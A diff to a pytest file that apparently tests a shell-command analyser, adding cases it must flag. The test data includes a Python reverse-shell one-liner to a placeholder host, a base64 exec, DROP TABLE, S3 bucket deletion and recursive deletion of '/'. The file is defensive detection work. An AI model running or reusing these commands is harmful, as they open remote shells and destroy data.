@@ -6,6 +6,11 @@ import pytest
 
 from shell.lines import commands_in, effects_in, followed, reasons_in
 
+_REVERSE_SHELL = (
+    'python -c \'import socket, os, pty; s = socket.socket(); s.connect(("h", 1)); '
+    'os.dup2(s.fileno(), 0); pty.spawn("sh")\''
+)
+
 
 @pytest.mark.parametrize(
     "line",
@@ -183,10 +188,22 @@ def test_what_only_the_run_decides_is_said(line: str, reason: str):
         ("python -c 'import os; print(os.environ)'", "env"),
         ("python -c 'import os; os.kill(-1, 9)'", "code kill"),
         ("LD_PRELOAD=x ls", "export LD_PRELOAD=x"),
+        ("python -c 'c.execute(\"DROP TABLE t\")'", "sql drop table t"),
+        ('python -c \'exec(__import__("base64").b64decode("eA=="))\'', "code eval-decoded"),
+        ('python -c \'boto3.client("s3").delete_bucket(Bucket="b")\'', "api-call delete b"),
+        (_REVERSE_SHELL, "code socket-shell"),
     ],
 )
 def test_statements_are_noted_as_commands(line: str, noted: str):
     assert any(shown.startswith(noted) for shown in commands_in(line))
+
+
+def test_a_process_by_its_number_is_the_codes_own_business():
+    assert "code kill" not in commands_in("python -c 'import os; os.kill(5, 9)'")
+
+
+def test_a_bare_line_of_code_is_read_as_code():
+    assert effects_in('shutil.rmtree("/")') == ["delete / in root, recursive, forced"]
 
 
 def test_truncate_with_an_option_is_a_program():
@@ -225,6 +242,14 @@ def test_code_that_reads_a_secret_and_sends_is_noted():
 )
 def test_a_line_may_hold_its_own_length_twice(line: str):
     assert reasons_in(line) == []
+
+
+def test_a_nested_line_may_be_no_longer_than_a_line():
+    found = followed(f"A='{'a' * 3000}'; eval \"$A$A$A\"").unresolved
+
+    assert [(part.reason, part.too_much) for part in found] == [
+        ("what it runs in turn is too long", True)
+    ]
 
 
 def _again(program: str, variable: str) -> str:
